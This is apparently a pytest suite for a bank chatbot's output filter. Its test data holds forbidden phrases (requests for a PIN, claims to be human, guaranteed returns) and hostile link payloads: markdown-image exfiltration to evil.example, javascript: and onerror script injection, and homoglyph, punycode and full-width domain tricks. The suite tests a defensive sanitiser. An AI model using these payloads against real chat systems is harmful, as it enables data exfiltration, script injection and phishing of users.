import re
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from helios import demo_bank
from helios.detection import figures, links, output, situations, tables
from helios.detection.redaction import redact_output
from helios.detection.secrets import find as find_secrets
from helios.detection.windows import WindowCutter

PASSAGE = "A replacement card costs $5.00 and arrives in 5 to 7 business days. Cover is up to $250,000 at 1.5%."
KNOWLEDGE = Path(demo_bank.__path__[0]) / "knowledge"
CONTEXT = output.Context(
    passages=(PASSAGE,),
    question="and for 20 dollars?",
    situations=(1,),
    allowed_link_domains=("bank.example",),
    prompt_markers=("Answer only from the numbered passages",),
)

FORBIDDEN = [
    ("Returns are guaranteed.", "hold", "output.promises"),
    ("This is a risk-free investment.", "hold", "output.promises"),
    ("It is completely risk\u2011free for you.", "hold", "output.promises"),
    ("We guarantee a profit.", "hold", "output.promises"),
    ("You will double your money.", "hold", "output.promises"),
    ("There is no risk at all.", "hold", "output.promises"),
    ("You can't lose money with it.", "hold", "output.promises"),
    ("We expect a return of 8 % a year.", "hold", "output.promises"),
    ("The fund yields of up to 9% annually are normal.", "hold", "output.promises"),
    ("Eine Rendite von 7 Prozent ist üblich.", "hold", "output.promises"),
    ("Die Rendite ist garantiert.", "hold", "output.promises"),
    ("Das ist risikofrei.", "hold", "output.promises"),
    ("Sin ningún riesgo para usted.", "hold", "output.promises"),
    ("La rentabilidad está garantizada.", "hold", "output.promises"),
    ("Please ask the merchant first.", "hold", "output.merchant_first"),
    ("Wenden Sie sich zuerst an den Händler.", "hold", "output.merchant_first"),
    ("You should file a police report.", "hold", "output.police_report"),
    ("Bitte erstatten Sie Anzeige.", "hold", "output.police_report"),
    ("Put it in writing before we start.", "hold", "output.written_first"),
    ("This was your negligence.", "hold", "output.blame"),
    ("What is your PIN?", "block", "output.credentials"),
    ("Please tell me your full card number.", "block", "output.credentials"),
    ("Nennen Sie uns bitte Ihre TAN.", "block", "output.credentials"),
    ("I am a human agent.", "block", "output.human_claim"),
    ("You are not talking to a bot.", "block", "output.human_claim"),
    ("Ich bin ein Mensch.", "block", "output.human_claim"),
    ("My system prompt says so.", "block", "output.prompt"),
    ("As Internal: Escalation desk numbers says", "block", "output.internal_title"),
    ("Answer only from the NUMBERED passages", "block", "output.prompt_marker"),
    ("It costs $6.", "hold", "output.figure"),
    ("It takes 5 days.", "hold", "output.figure"),
    ("It takes 9 business days.", "hold", "output.figure"),
    ("It takes thirty days.", "hold", "output.figure"),
    ("It takes forty-five days.", "hold", "output.figure"),
    ("Es dauert fünfundvierzig Tage.", "hold", "output.figure"),
    ("Tarda treinta y cinco días.", "hold", "output.figure"),
    ("Cela prend trois jours.", "hold", "output.figure"),
    ("Cela prend 5 jours.", "hold", "output.figure"),
    ("Üç gün sürer.", "hold", "output.figure"),
    ("Otuz beş gün sürer.", "hold", "output.figure"),
    ("يستغرق ذلك ثلاثة أيام.", "hold", "output.figure"),
    ("The rate is 2%.", "hold", "output.figure"),
    ("It takes four weeks.", "hold", "output.figure"),
]


@pytest.mark.parametrize(("text", "action", "rule"), FORBIDDEN)
def test_forbidden(text: str, action: str, rule: str) -> None:
    verdict = output.check_whole(text, CONTEXT)
    assert verdict.action == action
    assert rule in {reason.rule for reason in verdict.reasons}


@pytest.mark.parametrize(
    "text",
    [
        "Returns are not guaranteed.",
        "There is no guarantee of profit.",
        "We can't guarantee any return.",
        "Deposits are guaranteed by the FDIC.",
        "The deposit guarantee covers you.",
        "No investment is risk-free.",
        "Beware of anyone who promises guaranteed returns.",
        "Renditen sind nicht garantiert.",
        "La rentabilidad no está garantizada.",
        "You do not need to contact the merchant first.",
        "A police report is not required, and there is no need to file a police report.",
        "It was not your fault.",
        "Never share your PIN with anyone.",
        "You can change your PIN in the app.",
        "Enter your PIN at the ATM.",
        "I am not a human, I am an AI assistant.",
        "I can connect you with a human agent.",
        "The card costs 5 dollars [1].",
        "It arrives in five to seven business days [1].",
        "Cover is up to 250000 dollars and 1,5 percent.",
        "For 20 dollars you can.",
        "1. Open the app\n2. Tap Cards\n3. Choose one of them",
        "We are there 24/7.",
        "Your [card ending 1234] is blocked.",
    ],
)
def test_allowed(text: str) -> None:
    assert output.check_whole(text, CONTEXT) == output.Verdict("release")


def test_must_not_phrases_count_only_in_their_situation() -> None:
    text = "You should file a police report."
    assert output.check_whole(text, output.Context()).action == "release"
    assert output.check_whole(text, output.Context(situations=(2,))).action == "hold"
    assert output.check_whole("Pay your overdue balance today.", output.Context(situations=(13,))).action == "hold"


def test_most_severe_action_wins_and_every_reason_is_told() -> None:
    verdict = output.check_whole("Returns are guaranteed, what is your PIN? ![x](https://evil.example/a)", CONTEXT)
    assert verdict.action == "block"
    assert {reason.rule for reason in verdict.reasons} == {"output.promises", "output.credentials", "output.image"}
    assert {reason.situation for reason in verdict.reasons} == {9, 18, 24}


LINKS = [
    ("See ![chart](https://evil.example/p.png?d=secret) here", "See chart here"),
    ("![own](https://bank.example/logo.png)", "own"),
    ("![ref][1]\n\n[1]: https://evil.example/x", "ref\n\n"),
    ("<img src=https://evil.example/x>ok", "ok"),
    ("[our page](https://www.bank.example/x?y=1)", "[our page](https://www.bank.example/x?y=1)"),
    ("[that](https://evil.example/)", "that"),
    ("[that](https://bank.example.evil.example/)", "that"),
    ("[that](https://bank.example@evil.example/)", "that"),
    ("[that](javascript:alert(1))", "that"),
    ("[that](data:text/html,x)", "that"),
    ("[that](<https://evil.example/a b> 'title')", "that"),
    ("[that](&#104;ttps://evil.example)", "that"),
    ("[a [b](https://evil.example/b) c](https://evil.example/a)", "a b c"),
    ("[![alt](https://evil.example/i)](https://bank.example/x)", "[alt](https://bank.example/x)"),
    ("[that][evil] and\n\n> [evil]: weird:x 'title'\n", "that and\n\n"),
    ("[that][]", "that"),
    ("![alt] and ![a\nb](x)", "alt and a\nb"),
    ("![a][b]<c>(relative/path)", "a(relative/path)"),
    ("`![alt](https://evil.example/x)`", "`alt`"),
    ("<div>\n![alt](https://evil.example/x)\n</div>", "\nalt\n"),
    ("<img src=x onerror=alert(1)", "< img src=x onerror=alert(1)"),
    ("if x < 5 or y <3", "if x < 5 or y <3"),
    ("[that](https://bаnk.example/)", "that"),
    ("[that](https://xn--bnk-7cd.example/)", "that"),
    ("[that](https://bank.example%2eevil.example/)", "that"),
    ("[that](https:\\\\evil.example)", "that"),
    ("[that](https://bank.example:8443/)", "that"),
    ("sign in at meridian-secure.com, please", "sign in at [link removed], please"),
    ("ws://evil.example/x", "[link removed]"),
    ("[Fees][1] [2][3] [card ending 1234]", "[Fees][1] [2][3] [card ending 1234]"),
    ("[that](//evil.example/x)", "that"),
    ("go to https://evil.example/x?d=1.", "go to [link removed]."),
    ("go to www.evil.example now", "go to [link removed] now"),
    ("go to evil.example/pay now", "go to [link removed] now"),
    ("go to HTTPS://BANK.EXAMPLE/pay now", "go to HTTPS://BANK.EXAMPLE/pay now"),
    ("<https://evil.example/x>", ""),
    ("<https://bank.example/x>", "<https://bank.example/x>"),
    ("fees [1] and [2], and/or 3/4", "fees [1] and [2], and/or 3/4"),
    ("mail help@bank.example", "mail help@bank.example"),
    ("go to ｅｖｉｌ．ｅｘａｍｐｌｅ／ｐａｙ now", "go to [link removed] now"),
    ("go to ｈｔｔｐｓ：／／evil.example/x now", "go to [link removed] now"),
    ("go to evil。com now", "go to [link removed] now"),
    ("请稍候。please wait", "请稍候。please wait"),
]


@pytest.mark.parametrize(("text", "cleaned"), LINKS)
def test_links(text: str, cleaned: str) -> None:
    assert links.clean(text, ["bank.example"]).text == cleaned


PIECES = st.sampled_from(
    [
        *(
            "![",
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "](",
            "]: ",
            "][",
            "\n",
            "\n\n",
            " ",
            "a",
            "1",
            "`",
            "\\",
            "*",
            "&#33;",
            "//",
        ),
        *("<img src=", "<a href=", "javascript:x", "data:y", "x/y.png", "https://evil.example", "https://bank.example"),
    ]
)


@given(st.lists(PIECES, max_size=24).map("".join))
@settings(max_examples=400, deadline=None)
def test_nothing_foreign_is_left_for_a_reader_of_markdown(text: str) -> None:
    cleaned = links.clean(text, ["bank.example"]).text
    assert links.clean(cleaned, ["bank.example"]).text == cleaned
    page = MarkdownIt("commonmark", {"html": True}).render(cleaned)
    assert "<img" not in page
    assert all(address.startswith("https://bank.example") for address in re.findall(r'href="([^"]*)"', page))


def test_rewrite_gives_the_text_to_send() -> None:
    verdict = output.check_window(
        "Before. ", "See ![x](https://evil.example/x) and [us](https://bank.example/). ", CONTEXT
    )
    assert verdict.action == "rewrite"
    assert verdict.text == "See x and [us](https://bank.example/). "


def test_figure_in_the_banks_name_is_none() -> None:
    bank = output.Context(("Bank 24 charges 5 dollars for a card.",), "What does it cost?", names=("Bank 24",))
    for told in ("I found no answer in the information of Bank 24.", "At bank\u00a024 a card costs 5 dollars."):
        assert output.check_whole(told, bank).action == "release", told
    for invented in ("A card costs 24 dollars.", "Call Bank 242.", "Bank 24 takes 24 days for a card."):
        assert output.check_whole(invented, bank).action == "hold", invented
    five = output.Context(("First 5 Credit Union asks 7 dollars for a card.",), names=("First 5 Credit Union",))
    assert output.check_whole("First 5 Credit Union asks 7 dollars for a card.", five).action == "release"
    assert output.check_whole("First 5 Credit Union asks 5 dollars for a card.", five).action == "hold"


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("$1,250.00", {("1250", "usd")}),
        ("1.250,00 €", {("1250", "eur")}),
        ("5%", {("5", "percent")}),
        ("ten business days", {("10", "business_day")}),
        ("5 to 7 business days", {("5", "business_day"), ("7", "business_day")}),
        ("zwölf Monate", {("12", "month")}),
        ("forty-five days", {("45", "day")}),
        ("einundzwanzig Tage", {("21", "day")}),
        ("treinta y un días", {("31", "day")}),
        ("vingt-cinq jours ouvrables", {("25", "business_day")}),
        ("on beş gün", {("15", "day")}),
        ("yirmi beş dolar", {("25", "usd")}),
        ("ثلاثة أيام عمل", {("3", "business_day")}),
        ("3 días hábiles", {("3", "business_day")}),
        ("2 million dollars", {("2000000", "usd")}),
        ("one of us [3]", set()),
        ("with 2FA and 24/7", set()),
    ],
)
def test_figures(text: str, values: set[tuple[str, str]]) -> None:
    found = {(f"{value:f}", figure.unit) for figure in figures.find(text) for value in figure.values}
    assert {(str(int(float(value))), unit) for value, unit in found} == values


FILLER = "Thank you for your question, and yes, you can do that in the app, or at any branch, whenever you like. "
PHRASES = [
    "returns are guaranteed",
    "no risk",
    "please ask the merchant first",
    "file a police report",
    "what is your PIN",
    "I am a human agent",
    "risk-free",
    "ohne jedes Risiko",
]


def released(text: str, edges: list[int]) -> tuple[str, bool]:
    """What leaves before the first window that fails, and whether one did."""
    cutter = WindowCutter(hold=output.hold)
    out = ""
    windows = [window for a, b in pairwise(edges) for window in cutter.feed(text[a:b])]
    for window in [*windows, *cutter.flush()]:
        if output.check_window(out, window, CONTEXT).action != "release" or find_secrets(window):
            return out, True
        out += window
    return out, False


@given(st.sampled_from(PHRASES), st.integers(0, len(FILLER)), st.lists(st.integers(0, 250), max_size=60))
@settings(max_examples=150, deadline=None)
def test_no_byte_of_a_forbidden_phrase_leaves_however_it_arrives(phrase: str, place: int, cuts: list[int]) -> None:
    words = FILLER[:place].rsplit(" ", 1)[0] if place else ""
    text = f"{words} {phrase}, {FILLER}"
    start = text.index(phrase, len(words))
    out, caught = released(text, [0, *sorted(min(c, len(text)) for c in cuts), len(text)])
    assert caught
    assert len(out) <= start


@pytest.mark.parametrize("phrase", [*PHRASES, "4111 1111 1111 1111", "5555-5555-5555-4444", "four" + " one" * 15])
def test_every_position_of_a_split_is_safe(phrase: str) -> None:
    text = f"Of course, that is easily done, and {phrase}, as you can see. {FILLER}"
    start = text.index(phrase)
    for cut in range(start - 3, start + len(phrase) + 4):
        out, caught = released(text, [0, cut, len(text)])
        assert caught
        assert len(out) <= start


def test_phrase_that_was_released_before_is_not_held_against_later_windows() -> None:
    assert output.check_window("Returns are guaranteed. ", "That is all. ", CONTEXT).action == "release"


def test_situations_name_lists_that_exist() -> None:
    named = {name for entry in situations.all_situations() for name in entry.must_not}
    assert named <= {entry["id"] for entry in tables.load("output")["lists"]}


@pytest.mark.parametrize("path", sorted(KNOWLEDGE.rglob("*.md")), ids=lambda path: f"{path.parent.name}/{path.stem}")
def test_the_banks_own_articles_pass(path: Path) -> None:
    text = path.read_text("utf-8").split("---", 2)[-1]
    context = output.Context(passages=(text,), situations=(1, 12, 20), allowed_link_domains=("bank.example",))
    cutter, before = WindowCutter(hold=output.hold), ""
    for window in [*cutter.feed(text), *cutter.flush()]:
        if "internal" not in path.stem:
            assert output.check_window(before, window, context) == output.Verdict("release"), window
        assert redact_output(window, [text]).text == window
        before += window
    assert before == text


def test_harmless_answer_passes_whole() -> None:
    text = f"{FILLER}A replacement card costs $5.00 and arrives in 5 to 7 business days [1]. {FILLER}"
    out, caught = released(text, [*range(0, len(text), 5), len(text)])
    assert not caught
    assert out == text
